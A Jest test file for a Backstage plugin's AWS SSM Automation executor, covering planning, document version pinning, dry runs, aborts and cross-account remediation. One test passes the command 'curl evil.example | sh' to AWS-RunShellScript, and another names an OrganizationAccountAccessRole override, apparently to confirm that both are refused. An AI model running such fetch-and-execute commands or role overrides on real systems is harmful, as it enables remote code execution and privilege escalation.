import { mockServices } from '@backstage/backend-test-utils';
import { ConfigReader } from '@backstage/config';
import { catalogServiceMock } from '@backstage/plugin-catalog-node/testUtils';
import {
  Incident,
  Opportunity,
} from '@cloudops-ai/backstage-plugin-cloudops-common';
import { RemediationRun } from '@cloudops-ai/backstage-plugin-cloudops-node';
import {
  AwsTestEnvironment,
  EXTERNAL_ID,
  startAwsTestEnvironment,
} from '../__testUtils__/awsTestEnvironment';
import { FakeAutomationDocument } from '../__testUtils__/fakeAws/services/ssm';
import { AwsClients } from '../clients/AwsClients';
import { remediationCredentialsManager } from '../clients/remediationCredentials';
import { RemediationTargets } from './remediationTarget';
import {
  clientTokenOf,
  SsmAutomationExecutor,
  SSM_AUTOMATION_EXECUTOR_ID,
} from './SsmAutomationExecutor';

const A = '111111111111';
/** The account of the orphan volume: no catalog entity says where it is. */
const B = '222222222222';
const REGION = 'eu-west-1';
const REMEDIATION_ROLE = 'cloudops-remediation';
const RESTART = 'CloudOps-RestartEC2Instance';

const incident: Incident = {
  id: '0b5c3f5e-8a1d-4f0e-9b7a-2c4d6e8f0a1b',
  title: 'checkout instance unhealthy',
  severity: 'high',
  state: 'open',
  entityRef: 'component:default/checkout',
  createdBy: 'cloudops',
  createdAt: '2026-11-22T12:00:00.000Z',
  updatedAt: '2026-11-22T12:00:00.000Z',
  labels: {},
  signalCount: 1,
};

/** The restart document, version 1: reboots, then waits for status checks. */
const restartDocument: FakeAutomationDocument = {
  Name: RESTART,
  Description: 'Reboots an EC2 instance',
  Parameters: [
    { Name: 'InstanceId', Type: 'String' },
    { Name: 'AutomationAssumeRole', Type: 'String' },
  ],
  steps: [
    {
      name: 'reboot',
      action: 'aws:executeAwsApi',
      outputs: { RequestId: ['r-1'] },
    },
    {
      name: 'waitForStatusChecks',
      action: 'aws:waitForAwsResourceProperty',
      outputs: { Status: ['ok'] },
    },
  ],
  tags: { 'cloudops:cost-impact': 'neutral' },
};

const SNAPSHOT_AND_DELETE = 'CloudOps-SnapshotAndDeleteVolume';
const VOLUME = 'vol-0123456789abcdef0';

/** An orphan volume found in account B, us-west-2. */
const opportunity = {
  id: '5d0f4c1e-2b3a-4c5d-8e9f-0a1b2c3d4e5f',
  detector: 'aws-ebs',
  kind: 'ebs-orphan',
  shard: B,
  resource: {
    id: `arn:aws:ec2:us-west-2:${B}:volume/${VOLUME}`,
    type: 'ebs:volume',
    region: 'us-west-2',
    account: B,
  },
  account: B,
  title: `Unattached volume ${VOLUME}`,
  current: { description: 'gp3, 500 GiB', monthlyCost: 40, spec: {} },
  recommended: { description: 'Deleted', monthlyCost: 0, spec: {} },
  monthlySavings: 40,
  currency: 'USD',
  confidence: 0.95,
  remediation: {
    template: 'cloudops-ebs-snapshot-and-delete',
    parameters: { volumeId: VOLUME },
  },
  state: 'detected',
} as Partial<Opportunity> as Opportunity;

describe('SsmAutomationExecutor', () => {
  let env: AwsTestEnvironment;
  let clients: AwsClients;
  let executor: SsmAutomationExecutor;
  let logger: ReturnType<typeof mockServices.logger.mock>;
  let progress: Array<{ message: string; data?: Record<string, unknown> }>;

  const run = (overrides: Partial<RemediationRun> = {}): RemediationRun => ({
    requestId: 'c7d1e2f3-0000-4000-8000-000000000001',
    idempotencyKey: 'cloudops-c7d1e2f3-0000-4000-8000-000000000001-execute',
    ref: RESTART,
    parameters: { InstanceId: 'i-0abc1234def567890' },
    scope: { entityRef: incident.entityRef },
    incident,
    dryRun: false,
    signal: new AbortController().signal,
    progress: async (message, data) => {
      progress.push({ message, data });
    },
    ...overrides,
  });

  beforeEach(async () => {
    env = await startAwsTestEnvironment([A, B]);
    env.fake.addAccount(A, { name: REMEDIATION_ROLE, externalId: EXTERNAL_ID });
    env.fake.ssm.addDocument(A, REGION, restartDocument);
    clients = new AwsClients({
      credentialsManager: remediationCredentialsManager(
        new ConfigReader({ aws: env.awsConfig }),
        { roleName: REMEDIATION_ROLE },
      ),
      maxConcurrentCalls: 4,
      maxAttempts: 2,
      logger: mockServices.logger.mock(),
      backoffMs: 5,
    });
    logger = mockServices.logger.mock();
    executor = new SsmAutomationExecutor({
      clients,
      targets: new RemediationTargets({
        catalog: catalogServiceMock({
          entities: [
            {
              apiVersion: 'backstage.io/v1alpha1',
              kind: 'Component',
              metadata: {
                name: 'checkout',
                annotations: {
                  'cloudops.ai/aws-account-id': A,
                  'cloudops.ai/aws-region': REGION,
                },
              },
              spec: {},
            },
          ],
        }),
        auth: mockServices.auth(),
        accountOf: async account =>
          [A, B].includes(account) ? { regions: ['us-east-1'] } : undefined,
      }),
      options: {
        roleName: REMEDIATION_ROLE,
        automationRoleName: 'cloudops-automation',
        dryRunParameter: 'DryRun',
        documentPrefixes: ['CloudOps-'],
        pollIntervalMs: 5,
        maxPollIntervalMs: 20,
      },
      logger,
    });
    progress = [];
  });

  afterEach(async () => {
    clients.destroy();
    await env.stop();
  });

  /** What the executor logged at warn. */
  const warnings = () => logger.warn.mock.calls.map(([message]) => message);

  const ssmCallers = () =>
    env.fake
      .callsTo('ssm')
      .map(c => env.fake.identities.find(c.accessKeyId)?.arn ?? '?');

  it('plans from the document: the resources its parameters name and its cost-impact tag, with the remediation role', async () => {
    expect(executor.id).toBe(SSM_AUTOMATION_EXECUTOR_ID);
    const plan = await executor.plan(run());
    expect(plan).toEqual({
      targets: ['i-0abc1234def567890'],
      costImpact: 'neutral',
      summary: `SSM Automation ${RESTART} (version 1) in ${A} ${REGION}: Reboots an EC2 instance`,
      pin: {
        documentVersion: '1',
        documentHash: expect.stringMatching(/^[0-9a-f]{64}$/),
      },
    });
    expect(ssmCallers()).toEqual([
      expect.stringContaining(`:assumed-role/${REMEDIATION_ROLE}/`),
    ]);
  });

  it('starts the document with a client token from the idempotency key, follows it to success and reports each step', async () => {
    const outcome = await executor.execute(run());
    const [execution] = env.fake.ssm.executionsIn(A);
    expect(execution.Parameters).toEqual({
      InstanceId: ['i-0abc1234def567890'],
      AutomationAssumeRole: [`arn:aws:iam::${A}:role/cloudops-automation`],
    });
    expect(outcome).toEqual({
      status: 'succeeded',
      summary: `automation execution ${execution.AutomationExecutionId} ended Success`,
      executionId: execution.AutomationExecutionId,
      outputs: {
        'reboot.RequestId': ['r-1'],
        'waitForStatusChecks.Status': ['ok'],
        automationExecution: {
          id: execution.AutomationExecutionId,
          status: 'Success',
          document: RESTART,
          documentVersion: '1',
          account: A,
          region: REGION,
          dryRun: false,
        },
      },
    });
    expect(progress.map(p => p.message)).toEqual([
      `following automation execution ${execution.AutomationExecutionId} in ${A} ${REGION}`,
      'step reboot (aws:executeAwsApi) Success',
      'step waitForStatusChecks (aws:waitForAwsResourceProperty) Success',
    ]);
    expect(progress[1].data).toMatchObject({
      step: 'reboot',
      outputs: { RequestId: ['r-1'] },
    });
    expect(clientTokenOf(run().idempotencyKey)).toMatch(
      /^[0-9a-f]{8}-[0-9a-f]{4}-5[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/,
    );
  });

  describe('the document version planned', () => {
    /** Version 2 of the restart document, the default now: it terminates. */
    const changeDocument = () =>
      env.fake.ssm.updateDocument(A, REGION, RESTART, {
        Description: 'Terminates an EC2 instance',
        steps: [{ name: 'terminate', action: 'aws:executeAwsApi' }],
        tags: { 'cloudops:cost-impact': 'decrease' },
      });

    it('is the version that runs, dry run and execution, even after the default version changed', async () => {
      const { pin } = await executor.plan(run());
      changeDocument();
      const dry = await executor.execute(run({ pinned: pin, dryRun: true }));
      expect(dry.summary).toContain(`${RESTART} (version 1) exists`);
      const outcome = await executor.execute(run({ pinned: pin }));
      const [execution] = env.fake.ssm.executionsIn(A);
      expect(execution).toMatchObject({
        DocumentVersion: '1',
        StepExecutions: [
          { StepName: 'reboot' },
          { StepName: 'waitForStatusChecks' },
        ],
      });
      expect(outcome).toMatchObject({
        status: 'succeeded',
        outputs: { automationExecution: { documentVersion: '1' } },
      });
    });

    it('fails the run for good, saying the document changed, when that version no longer exists', async () => {
      const { pin } = await executor.plan(run());
      changeDocument();
      const expectGone = async (running: Promise<unknown>, code: string) => {
        const error = await running.then(
          () => undefined,
          e => e,
        );
        expect(error).toMatchObject({ retryable: false });
        expect(error.message).toBe(
          `SSM document ${RESTART} version 1, the version planned and approved, no longer exists in ${A} ${REGION}: the document changed since this remediation was approved, so nothing was run; request it again to plan the current version (${code})`,
        );
      };
      // Deleted between the check (DescribeDocument) and the start.
      const { service } = env.fake.ssm;
      const handle = service.handle.bind(service);
      jest
        .spyOn(service, 'handle')
        .mockImplementation(async (operation, ...rest) => {
          const answer = await handle(operation, ...rest);
          if (operation === 'DescribeDocument') {
            env.fake.ssm.deleteDocumentVersion(A, REGION, RESTART, '1');
          }
          return answer;
        });
      await expectGone(
        executor.execute(run({ pinned: pin })),
        'AutomationDefinitionVersionNotFoundException',
      );
      jest.restoreAllMocks();
      // Deleted before: the check finds it gone, for the dry run too.
      for (const dryRun of [true, false]) {
        await expectGone(
          executor.execute(run({ pinned: pin, dryRun })),
          'InvalidDocumentVersion',
        );
      }
      expect(env.fake.ssm.executionsIn(A)).toEqual([]);
    });

    /** The document deleted and created again: version 1 once more. */
    const recreateDocument = (
      changes: Partial<FakeAutomationDocument> = {},
    ) => {
      env.fake.ssm.deleteDocument(A, REGION, RESTART);
      env.fake.ssm.addDocument(A, REGION, { ...restartDocument, ...changes });
    };

    it('fails the run for good, saying the document changed, when that version has other content (deleted and created again)', async () => {
      const { pin } = await executor.plan(run());
      recreateDocument({
        steps: [{ name: 'terminate', action: 'aws:executeAwsApi' }],
      });
      for (const dryRun of [true, false]) {
        await expect(
          executor.execute(run({ pinned: pin, dryRun })),
        ).rejects.toMatchObject({
          retryable: false,
          message: `SSM document ${RESTART} version 1, the version planned and approved, has other content now in ${A} ${REGION}: the document changed since this remediation was approved, so nothing was run; request it again to plan the current version (its Sha256 hash is not the one approved)`,
        });
      }
      expect(env.fake.callsTo('ssm', 'StartAutomationExecution')).toEqual([]);
      expect(env.fake.ssm.executionsIn(A)).toEqual([]);
    });

    it('runs a version created again with the same content, and checks a pin stored without a hash (before hashes) by its version only', async () => {
      const { pin } = await executor.plan(run());
      recreateDocument();
      await expect(
        executor.execute(run({ pinned: pin })),
      ).resolves.toMatchObject({ status: 'succeeded' });

      recreateDocument({
        steps: [{ name: 'terminate', action: 'aws:executeAwsApi' }],
      });
      await executor.execute(
        run({
          pinned: { documentVersion: '1' },
          idempotencyKey: 'cloudops-old-pin-execute',
        }),
      );
      expect(
        env.fake.ssm.executionsIn(A).map(e => e.StepExecutions[0].StepName),
      ).toEqual(['reboot', 'terminate']);
    });

    it('is the default version at the time for a run planned without a pin (before pins existed)', async () => {
      changeDocument();
      await executor.execute(run());
      const [execution] = env.fake.ssm.executionsIn(A);
      expect(execution).toMatchObject({
        DocumentVersion: '2',
        StepExecutions: [{ StepName: 'terminate' }],
      });
    });
  });

  it('reports a failed step and a failed outcome', async () => {
    const failure = `An error occurred (AccessDeniedException) when calling the RebootDBInstance operation: User: arn:aws:sts::${A}:assumed-role/cloudops-automation/x is not authorized to perform: rds:RebootDBInstance on resource: arn:aws:rds:${REGION}:${A}:db:checkout-db`;
    env.fake.ssm.addDocument(A, REGION, {
      Name: 'CloudOps-RebootRdsInstance',
      Parameters: [{ Name: 'DBInstanceIdentifier', Type: 'String' }],
      steps: [
        { name: 'reboot', action: 'aws:executeAwsApi', failure },
        { name: 'wait', action: 'aws:waitForAwsResourceProperty' },
      ],
    });
    const outcome = await executor.execute(
      run({
        ref: 'CloudOps-RebootRdsInstance',
        parameters: { DBInstanceIdentifier: 'checkout-db' },
      }),
    );
    const [{ AutomationExecutionId: id }] = env.fake.ssm.executionsIn(A);
    // The error's code, not AWS's message (an account, ARNs, a role).
    expect(outcome).toMatchObject({
      status: 'failed',
      summary: `automation execution ${id} ended Failed at step reboot (aws:executeAwsApi): AccessDeniedException, see the backend's log for SSM's message`,
    });
    expect(progress.map(p => p.message)).toEqual([
      expect.stringMatching(/^following automation execution/),
      "step reboot (aws:executeAwsApi) Failed: AccessDeniedException, see the backend's log for SSM's message",
      'step wait (aws:waitForAwsResourceProperty) Cancelled',
    ]);
    expect(warnings()).toEqual([
      `SSM automation execution ${id} in ${A} ${REGION}: step reboot Failed: ${failure}`,
      expect.stringMatching(
        new RegExp(
          `^SSM automation execution ${id} in ${A} ${REGION} ended Failed: .*arn:aws:rds:`,
        ),
      ),
    ]);
  });

  /** Starts a run that polls until it is aborted; returns its promise and the abort. */
  async function pollingRun(overrides: Partial<RemediationRun> = {}) {
    env.fake.ssm.pollsPerStep = 1000;
    const controller = new AbortController();
    const running = executor.execute(
      run({ signal: controller.signal, ...overrides }),
    );
    // Wait until it is polling.
    for (
      let i = 0;
      i < 200 && env.fake.callsTo('ssm', 'GetAutomationExecution').length < 2;
      i++
    ) {
      await new Promise(r => setTimeout(r, 10));
    }
    return { running, abort: () => controller.abort(new Error('timed out')) };
  }

  it('stops waiting when an attempt before the last is aborted (timeout), leaving the execution running, and a retry follows it instead of starting another', async () => {
    const first = await pollingRun({ finalAttempt: false });
    first.abort();
    await expect(first.running).rejects.toThrow();
    expect(env.fake.ssm.executionsIn(A)).toHaveLength(1);
    expect(env.fake.ssm.executionsIn(A)[0].AutomationExecutionStatus).toBe(
      'InProgress',
    );
    expect(env.fake.callsTo('ssm', 'StopAutomationExecution')).toEqual([]);

    env.fake.ssm.pollsPerStep = 1;
    const retried = await executor.execute(run());
    const [execution] = env.fake.ssm.executionsIn(A);
    expect(env.fake.ssm.executionsIn(A)).toHaveLength(1);
    expect(retried).toMatchObject({
      status: 'succeeded',
      executionId: execution.AutomationExecutionId,
    });
    // Once more after the end: still the one execution, its outcome again.
    await expect(executor.execute(run())).resolves.toMatchObject({
      status: 'succeeded',
      executionId: execution.AutomationExecutionId,
    });
    expect(env.fake.ssm.executionsIn(A)).toHaveLength(1);
    expect(env.fake.callsTo('ssm', 'StartAutomationExecution')).toHaveLength(3);
  });

  it('stops the execution when the last attempt is aborted, so the failed step leaves nothing running', async () => {
    const last = await pollingRun({ finalAttempt: true });
    last.abort();
    await expect(last.running).rejects.toThrow();
    const [execution] = env.fake.ssm.executionsIn(A);
    expect(execution).toMatchObject({
      AutomationExecutionStatus: 'Cancelled',
      StepExecutions: [
        { StepName: 'reboot', StepStatus: 'Cancelled' },
        { StepName: 'waitForStatusChecks', StepStatus: 'Cancelled' },
      ],
    });
    expect(env.fake.callsTo('ssm', 'StopAutomationExecution')).toHaveLength(1);
    expect(progress.at(-1)).toEqual({
      message: `stopped automation execution ${execution.AutomationExecutionId} in ${A} ${REGION}: the step gave up following it (its time ran out)`,
      data: {
        automationExecutionId: execution.AutomationExecutionId,
        account: A,
        region: REGION,
      },
    });
  });

  it('stops the execution when following it fails for good, even before the last attempt', async () => {
    env.fake.deny(A, 'ssm:GetAutomationExecution');
    await expect(
      executor.execute(run({ finalAttempt: false })),
    ).rejects.toMatchObject({
      retryable: false,
      message: `SSM GetAutomationExecution in ${A} ${REGION} was refused: not authorized (AccessDeniedException); the backend's log has AWS's message`,
    });
    const [execution] = env.fake.ssm.executionsIn(A);
    expect(execution.AutomationExecutionStatus).toBe('Cancelled');
    expect(progress.at(-1)?.message).toBe(
      `stopped automation execution ${execution.AutomationExecutionId} in ${A} ${REGION}: the step gave up following it (SSM GetAutomationExecution in ${A} ${REGION} was refused: not authorized (AccessDeniedException); the backend's log has AWS's message)`,
    );
    // AWS's message, with the role's ARN, is in the log.
    expect(warnings()).toEqual([
      expect.stringMatching(
        new RegExp(
          `^SSM GetAutomationExecution failed: ${A} ${REGION}: AccessDeniedException: .*arn:aws:sts::${A}:assumed-role/${REMEDIATION_ROLE}/.*not authorized to perform: ssm:GetAutomationExecution`,
        ),
      ),
    ]);
  });

  it('fails the last attempt with its own error when stopping the execution fails too, and says so', async () => {
    env.fake.ssm.pollsPerStep = 1000;
    env.fake.deny(A, 'ssm:StopAutomationExecution');
    // SSM answers every poll with a server error (the SDK's and the
    // module's retries included).
    env.fake.injectFault({
      service: 'ssm',
      operation: 'GetAutomationExecution',
      kind: 'server-error',
    });
    const failed = executor.execute(run({ finalAttempt: true }));
    await expect(failed).rejects.toMatchObject({
      retryable: true,
      message: `SSM GetAutomationExecution in ${A} ${REGION} failed on AWS's side or on the way there, also after retries (InternalFailure); the backend's log has AWS's message`,
    });
    const [execution] = env.fake.ssm.executionsIn(A);
    expect(execution.AutomationExecutionStatus).toBe('InProgress');
    expect(env.fake.callsTo('ssm', 'StopAutomationExecution')).toHaveLength(1);
    expect(progress.at(-1)?.message).toBe(
      `could not stop automation execution ${execution.AutomationExecutionId} in ${A} ${REGION}, which may still be running: SSM StopAutomationExecution in ${A} ${REGION} was refused: not authorized (AccessDeniedException); the backend's log has AWS's message`,
    );
    expect(warnings()).toContainEqual(
      expect.stringMatching(
        /^SSM StopAutomationExecution failed: .*not authorized to perform: ssm:StopAutomationExecution/,
      ),
    );
  });

  it('runs only documents whose name starts with an allowed prefix: any other is refused when planned and when run, before AWS is asked', async () => {
    env.fake.ssm.addDocument(A, REGION, {
      Name: 'AWS-RunShellScript',
      Parameters: [{ Name: 'commands', Type: 'StringList' }],
    });
    const shell = {
      ref: 'AWS-RunShellScript',
      parameters: { commands: ['curl evil.example | sh'] },
    };
    const refusal = {
      name: 'InputError',
      message:
        'SSM document AWS-RunShellScript is not one CloudOps may run: its name must start with CloudOps- (cloudops.aws.ssm.documentPrefixes)',
    };
    await expect(executor.plan(run(shell))).rejects.toMatchObject(refusal);
    // A request stored before (or planned with other settings) does not run.
    for (const dryRun of [true, false]) {
      await expect(
        executor.execute(
          run({ ...shell, dryRun, pinned: { documentVersion: '1' } }),
        ),
      ).rejects.toMatchObject(refusal);
    }
    // Nor by the ARN of a shared document.
    await expect(
      executor.execute(
        run({
          ...shell,
          ref: `arn:aws:ssm:${REGION}:${B}:document/AWS-RunShellScript`,
        }),
      ),
    ).rejects.toMatchObject(refusal);
    expect(env.fake.callsTo('ssm')).toEqual([]);
  });

  it('dry-runs a document that declares DryRun by starting it so, and only checks one that does not', async () => {
    const checked = await executor.execute(run({ dryRun: true }));
    expect(checked).toMatchObject({
      status: 'succeeded',
      summary: expect.stringContaining('nothing was started'),
      outputs: { started: false, document: RESTART },
    });
    expect(env.fake.ssm.executionsIn(A)).toHaveLength(0);

    env.fake.ssm.addDocument(A, REGION, {
      Name: 'CloudOps-ScaleService',
      Parameters: [
        { Name: 'ServiceName', Type: 'String' },
        { Name: 'DryRun', Type: 'Boolean', DefaultValue: 'false' },
      ],
    });
    const dry = await executor.execute(
      run({
        ref: 'CloudOps-ScaleService',
        parameters: { ServiceName: 'checkout' },
        dryRun: true,
        idempotencyKey: 'cloudops-x-dry-run',
      }),
    );
    expect(dry).toMatchObject({
      status: 'succeeded',
      outputs: { automationExecution: { dryRun: true } },
    });
    expect(env.fake.ssm.executionsIn(A)[0].Parameters).toEqual({
      ServiceName: ['checkout'],
      DryRun: ['true'],
    });
  });

  it('refuses, for good, what no retry can fix; what the request got wrong as input its requester sees', async () => {
    const permanent = { retryable: false };
    const input = { name: 'InputError' };
    await expect(
      executor.plan(run({ parameters: { Nope: 'x', InstanceId: 'i-1' } })),
    ).rejects.toMatchObject({
      ...input,
      message: `${RESTART} declares no parameter Nope (it takes: InstanceId, AutomationAssumeRole)`,
    });
    await expect(
      executor.execute(run({ parameters: { InstanceId: 42 } })),
    ).rejects.toMatchObject({
      ...input,
      message: expect.stringContaining(
        'Parameter "InstanceId" of CloudOps-RestartEC2Instance must be a string or a list of strings',
      ),
    });
    // The run acts with the kit's automation role, never one the requester names.
    await expect(
      executor.execute(
        run({
          parameters: {
            InstanceId: 'i-0abc1234def567890',
            AutomationAssumeRole: `arn:aws:iam::${B}:role/OrganizationAccountAccessRole`,
          },
        }),
      ),
    ).rejects.toMatchObject({
      ...input,
      message: expect.stringContaining(
        'AutomationAssumeRole can only be the automation role',
      ),
    });
    // A required parameter (no default) is missing; the role is filled in.
    await expect(executor.plan(run({ parameters: {} }))).rejects.toMatchObject({
      ...input,
      message: `${RESTART} needs the parameter(s) InstanceId`,
    });
    await expect(
      executor.plan(run({ ref: 'CloudOps-Missing' })),
    ).rejects.toMatchObject({
      ...permanent,
      message: expect.stringContaining('InvalidDocument'),
    });
    await expect(
      executor.plan(
        run({
          incident: { ...incident, entityRef: undefined },
          scope: {},
        }),
      ),
    ).rejects.toMatchObject({
      ...permanent,
      message: expect.stringContaining('names no AWS account'),
    });
    // An incident's account comes from its signals: only accounts CloudOps
    // works in are acted in.
    await expect(
      executor.plan(run({ scope: { account: '999999999999' } })),
    ).rejects.toMatchObject({
      ...permanent,
      message: expect.stringContaining(
        'AWS account 999999999999 is not one CloudOps works in',
      ),
    });
    expect(env.fake.ssm.executionsIn(A)).toHaveLength(0);
  });

  it("runs a savings opportunity's remediation in the opportunity's own account and region", async () => {
    env.fake.addAccount(B, { name: REMEDIATION_ROLE, externalId: EXTERNAL_ID });
    env.fake.ssm.addDocument(B, 'us-west-2', {
      Name: SNAPSHOT_AND_DELETE,
      Description: 'Snapshots and deletes an unattached volume',
      Parameters: [
        { Name: 'VolumeId', Type: 'String' },
        { Name: 'DryRun', Type: 'Boolean', DefaultValue: 'false' },
        { Name: 'AutomationAssumeRole', Type: 'String' },
      ],
      steps: [
        {
          name: 'createSnapshot',
          action: 'aws:executeAwsApi',
          outputs: { SnapshotId: ['snap-0a1b2c3d4e5f60718'] },
        },
        { name: 'deleteVolume', action: 'aws:executeAwsApi' },
      ],
      tags: { 'cloudops:cost-impact': 'decrease' },
    });
    const orphan = run({
      ref: SNAPSHOT_AND_DELETE,
      parameters: { VolumeId: VOLUME },
      incident: undefined,
      opportunity,
      scope: {
        account: B,
        region: 'us-west-2',
        resource: opportunity.resource.id,
      },
    });
    expect(await executor.plan(orphan)).toMatchObject({
      targets: [VOLUME],
      costImpact: 'decrease',
    });
    const outcome = await executor.execute(orphan);
    const [execution] = env.fake.ssm.executionsIn(B);
    expect(execution.Parameters).toMatchObject({
      VolumeId: [VOLUME],
      AutomationAssumeRole: [`arn:aws:iam::${B}:role/cloudops-automation`],
    });
    expect(outcome).toMatchObject({
      status: 'succeeded',
      outputs: {
        'createSnapshot.SnapshotId': ['snap-0a1b2c3d4e5f60718'],
        automationExecution: { account: B, region: 'us-west-2' },
      },
    });
    expect(env.fake.ssm.executionsIn(A)).toHaveLength(0);
    // Without an account in the scope (nor an entity to ask) it says whose it is.
    await expect(
      executor.plan({ ...orphan, scope: { region: 'us-west-2' } }),
    ).rejects.toMatchObject({
      retryable: false,
      message: expect.stringContaining(
        `Savings opportunity ${opportunity.id} names no AWS account`,
      ),
    });
  });
});
